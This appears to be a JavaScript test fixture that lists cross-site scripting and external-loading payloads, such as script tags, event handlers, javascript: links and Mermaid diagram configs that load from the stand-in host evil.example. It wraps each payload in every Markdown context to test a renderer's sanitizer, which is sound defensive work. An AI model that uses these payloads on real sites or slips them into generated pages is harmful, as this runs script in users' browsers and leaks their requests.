// SPDX-License-Identifier: Apache-2.0
// Texts that would run or load something in a careless page: payloads, each in every place that Markdown has for text.
const run = "alert(document.domain)";
const allPayloads = [
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script\n>${run}</script\n>`, `</script><script>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`, `<img src="http://evil.example/p.png">`, `<img srcset="//evil.example/p.png 1x">`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`, `<svg><use href="http://evil.example/#x"/></svg>`, `<math><mtext></p><img src=x onerror=${run}></mtext></math>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="//evil.example/x.swf">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(//evil.example/x)}</style>`,
  `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="javascript:${run}"><button>x</button></form>`, `<input autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<body onload=${run}>`, `<video src=x onerror=${run}></video>`,
  `<video poster=//evil.example/p.png></video>`, `<audio src=//evil.example/a></audio>`, `<a href="javascript:${run}">x</a>`, `<a href=x onmouseover=${run}>x</a>`, `<div style="background:url(//evil.example/x)">`,
  `<template><img src=x onerror=${run}></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<!--><img src=x onerror=${run}>-->`, `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`, `<?xml-stylesheet href="//evil.example/x"?>`, `" onmouseover="${run}`, `' onmouseover='${run}`, `"><img src=x onerror=${run}>`, `'><svg/onload=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`, `\u0000<img src=x onerror=${run}>`, `<\u0000script>${run}</script>`, `\u2028<script>${run}</script>`,
  `[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x](java\tscript:${run})`, `[x](&#106;avascript:${run})`, `[x](javascript&colon;${run})`, `[x](\u0001javascript:${run})`, `[x](<javascript:${run}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:x)`, `[x](//evil.example/)`, `[x](\\\\evil.example\\x)`, `[x](/\\evil.example)`, `[x](a.md "\\" onmouseover=\\"${run}")`, `[x][r]\n\n[r]: javascript:${run}`,
  `![x](http://evil.example/p.png)`, `![x](//evil.example/p.png)`, `![x](javascript:${run})`, `![x](x.png "a\\"onerror=\\"${run}")`, `![<img src=x onerror=${run}>](x.png)`, `[![x](http://evil.example/p.png)](javascript:${run})`,
  `<javascript:${run}>`, `<http://evil.example/"onmouseover="${run}>`, "`<img src=x onerror=" + run + ">`", "`` ` <script>" + run + "</script> ``", `$\{${run}}`, `{{constructor.constructor('${run}')()}}`,
  "%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true}}%%", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`, `<a id=kompressSearchIndex>`, `<h2 id="k:search">x</h2>`,
];

const oneLine = (text) => text.replace(/\n/g, " ");
export const contexts = {
  paragraph: (text) => text + "\n",
  heading: (text) => "### function " + oneLine(text) + "\n",
  code_heading: (text) => "### function `` " + oneLine(text) + " ``\n",
  list: (text) => "- " + oneLine(text) + "\n",
  quote: (text) => "> " + oneLine(text) + "\n",
  table: (text) => "| a | b |\n|---|---|\n| " + oneLine(text) + " | `" + oneLine(text) + "` |\n",
  table_head: (text) => "| " + oneLine(text) + " | b |\n|---|---|\n",
  fence: (text) => "~~~~cpp\n" + text + "\n~~~~\n",
  fence_info: (text) => "~~~~" + oneLine(text) + "\ncode\n~~~~\n",
  link_text: (text) => "[" + oneLine(text) + "](index.md)\n",
  link_target: (text) => "[x](<" + oneLine(text).replace(/[<>]/g, "\\$&") + ">)\n",
  emphasis: (text) => "**" + oneLine(text) + "** _" + oneLine(text) + "_\n",
  unclosed: (text) => "```\n" + text,
};
// What a model or a hostile source could put into diagrams.
const allDiagrams = [
  `flowchart LR\n  a["<img src=x onerror=${run}>"] --> b`,
  `flowchart LR\n  a[<script>${run}</script>]`,
  `flowchart LR\n  a --> b\n  click a "javascript:${run}"`,
  `flowchart LR\n  a --> b\n  click a call ${run}()`,
  `flowchart LR\n  a["<iframe src='http://evil.example/'></iframe>"]`,
  `%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "@import url(http://evil.example/x.css); * { background: url(http://evil.example/y) }"}}%%\nflowchart LR\n  a["<img src=http://evil.example/p.png>"]`,
  `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart LR\n  a["<img src='http://evil.example/q.png' onerror='${run}'>"]`,
  `flowchart LR\n  a@{ img: "http://evil.example/i.png", label: "x" }`,
  `classDiagram\n  class A["<img src=x onerror=${run}>"]\n  link A "javascript:${run}"`,
  `sequenceDiagram\n  A->>B: <img src=x onerror=${run}>\n  link A: x @ javascript:${run}`,
  `flowchart LR\n  style a fill:url(http://evil.example/z)\n  a`,
  `not a diagram </code></pre><script>${run}</script>`,
];

/// `host`: who is asked by what gets through.
export const payloads = (host = "evil.example") => allPayloads.map((text) => text.replaceAll("evil.example", host));
export const diagrams = (host = "evil.example") => allDiagrams.map((text) => text.replaceAll("evil.example", host));
